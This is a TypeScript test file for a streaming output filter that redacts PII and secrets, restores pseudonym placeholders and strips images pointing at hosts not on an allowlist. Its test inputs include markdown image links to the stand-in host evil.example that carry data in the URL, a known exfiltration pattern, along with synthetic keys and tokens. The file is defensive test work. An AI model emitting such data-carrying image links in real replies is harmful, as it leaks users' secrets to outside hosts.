import { randomBytes } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  createPseudonymVault,
  PLACEHOLDER_MAX_CHARS,
  PLACEHOLDER_PATTERN,
} from '../../detect/pii/index.js';
import { guardSchema } from '../../config/guard.js';
import { createOutputScanner } from './output-scan.js';
import { createTextFilter, windowFor } from './output-text.js';
import { createGuardPolicies } from './policy.js';

const policy = createGuardPolicies(
  guardSchema.parse({ output: { pii: { email: 'redact' }, allowedHosts: ['docs.example.com'] } }),
).forEnv(undefined);
/** Every output PII type redacted, so each multi-word value (names, phones, IBANs) is in play. */
const strict = createGuardPolicies(
  guardSchema.parse({
    output: {
      pii: { email: 'redact', phone: 'redact', ip: 'redact', name: 'redact' },
      allowedHosts: ['docs.example.com'],
    },
  }),
).forEnv(undefined);
const vault = createPseudonymVault();
vault.tokenFor('email', 'anna@example.com');
vault.tokenFor('card', '4111 1111 1111 1111');
/** The longest stem a placeholder can have (40): a 43-character placeholder. */
const LONG_TOKEN = vault.tokenFor('s'.repeat(40), 'Long Original');

const alnum = (n: number) =>
  [...randomBytes(n)]
    .map((b) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'[b % 62])
    .join('');
const KEY = `sk-proj-${alnum(48)}T3BlbkFJ${alnum(48)}`;
const LONG_JWT = `eyJhbGciOiJIUzI1NiJ9.eyJ${alnum(600)}.${alnum(43)}`;
const PEM = `-----BEGIN RSA PRIVATE KEY-----\n${alnum(64)}\n${alnum(64)}\n-----END RSA PRIVATE KEY-----`;

const piece = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      KEY,
      LONG_JWT,
      PEM,
      '<EMAIL_1>',
      '<CARD_1>',
      '<EMAIL_9>',
      LONG_TOKEN,
      'bob@example.org',
      'x'.repeat(300),
      '![pic](https://evil.example/p.png?d=secret)',
      '![ok](https://docs.example.com/a.png)',
      `![long](https://evil.example/${'a'.repeat(400)}`,
      '[link](https://evil.example)',
      '<',
      '-----BEGIN',
      ' ',
      '\n',
      'SSN 219-09-9999',
      '4111 1111 1111 1111',
      `x${KEY}`,
      'call +1 (555) 123-4567 now',
      'IBAN GB82 WEST 1234 5698 7654 32',
      'Dear Anna Maria Schmidt,',
      '[a long link label](https://evil.example/x)',
      'password = "Zq8vR2mX7pL4kW9sT3nB"',
      'Authorization: Bearer Zq8vR2mX7pL4kW9sT3nB6yH1',
      '10.1.2.3',
      'the 3 items',
    ),
  },
);

function run(text: string, cuts: number[], holdBackChars: number, p = policy): string {
  const filter = createTextFilter(createOutputScanner(p, vault), windowFor(holdBackChars));
  let out = '';
  let at = 0;
  for (const cut of [...new Set(cuts.map((c) => c % (text.length + 1)))].sort((a, b) => a - b)) {
    out += filter.push(text.slice(at, cut));
    at = cut;
  }
  return out + filter.push(text.slice(at)) + filter.flush();
}

/** What each push releases, in order. */
function releases(chunks: readonly string[]): string[] {
  const filter = createTextFilter(createOutputScanner(policy, vault), windowFor(256));
  return [...chunks.map((c) => filter.push(c)), filter.flush()];
}

describe('output text filter', () => {
  it('gives the same output for every split of the text into chunks', () => {
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 14 }),
        fc.array(fc.nat(), { maxLength: 30 }),
        fc.constantFrom(128, 256, 1024),
        fc.constantFrom(policy, strict),
        (parts, cuts, hold, p) => {
          const text = parts.join('');
          expect(run(text, cuts, hold, p)).toBe(run(text, [], hold, p));
        },
      ),
      { numRuns: 600 },
    );
  });

  it('gives the same output and tally without the early release (a whole reply)', () => {
    const whole = (text: string, hold: number, p: typeof policy, isEarly: boolean) => {
      const scan = createOutputScanner(p, vault);
      const tags: string[] = [];
      const opts = { ...windowFor(hold), onApply: (r: { tag: string }) => tags.push(r.tag) };
      const filter = createTextFilter(isEarly ? scan : (w: string) => scan(w), opts);
      return { out: filter.push(text) + filter.flush(), tags };
    };
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 14 }),
        fc.constantFrom(128, 256, 1024),
        fc.constantFrom(policy, strict),
        (parts, hold, p) => {
          const text = parts.join('');
          expect(whole(text, hold, p, false)).toEqual(whole(text, hold, p, true));
        },
      ),
      { numRuns: 600 },
    );
  });

  it('removes values longer than the window (long keys, PEM blocks, open image URLs)', () => {
    const text = `a ${LONG_JWT} b ${PEM} c ![x](https://evil.example/${'q'.repeat(500)}) d`;
    for (const hold of [128, 256]) {
      const out = run(text, [5, 77, 300, 301, 900], hold);
      expect(out).toBe('a [REDACTED:credential] b [REDACTED:private-key] c [image removed: x] d');
    }
  });

  it('restores placeholders, redacts configured PII and secrets, keeps allowed images', () => {
    const text = `To <EMAIL_1> from bob@example.org key ${KEY} ![ok](https://docs.example.com/a.png)`;
    expect(run(text, [3, 10, 11, 50], 512)).toBe(
      'To anna@example.com from [EMAIL] key [REDACTED:openai-project-key] ![ok](https://docs.example.com/a.png)',
    );
  });

  it('restores the longest placeholders split at every offset, by every chunk size', () => {
    const longest = `<${'Z'.repeat(40)}_999999>`;
    expect(longest).toMatch(PLACEHOLDER_PATTERN);
    expect(longest.length).toBe(PLACEHOLDER_MAX_CHARS);
    const text = `Hi ${LONG_TOKEN}, (${LONG_TOKEN}) and ${LONG_TOKEN}.`;
    const want = 'Hi Long Original, (Long Original) and Long Original.';
    for (let size = 1; size <= text.length; size++) {
      const cuts = Array.from({ length: Math.ceil(text.length / size) }, (_, i) => i * size);
      expect(run(text, cuts, 128)).toBe(want);
    }
  });

  it('holds back at most holdBackChars characters while text flows', () => {
    const filter = createTextFilter(createOutputScanner(policy, vault), windowFor(256));
    let pushed = 0;
    let emitted = 0;
    for (let i = 0; i < 200; i++) {
      const chunk = 'lorem ipsum '.slice(0, 1 + (i % 12));
      pushed += chunk.length;
      emitted += filter.push(chunk).length;
      expect(pushed - emitted).toBeLessThan(256);
    }
  });

  it('releases a short answer word by word, holding only the unfinished word', () => {
    const out = releases(['Hello', ' there,', ' my', ' friend.']);
    expect(out).toEqual(['', 'Hello ', 'there, ', 'my ', 'friend.']);
  });

  it('holds a value that spans words until it is complete', () => {
    const card = releases(['Card 4111', ' 1111', ' 1111', ' 1111', ' ok', ' done']);
    expect(card).toEqual(['Card ', '', '', '', '[CARD] ', 'ok ', 'done']);
    const image = releases(['See ![the', ' docs', '](https://evil.example/a', ' b)', ' now']);
    expect(image).toEqual(['See ', '', '', '[image removed: the docs]', ' ', 'now']);
  });
});
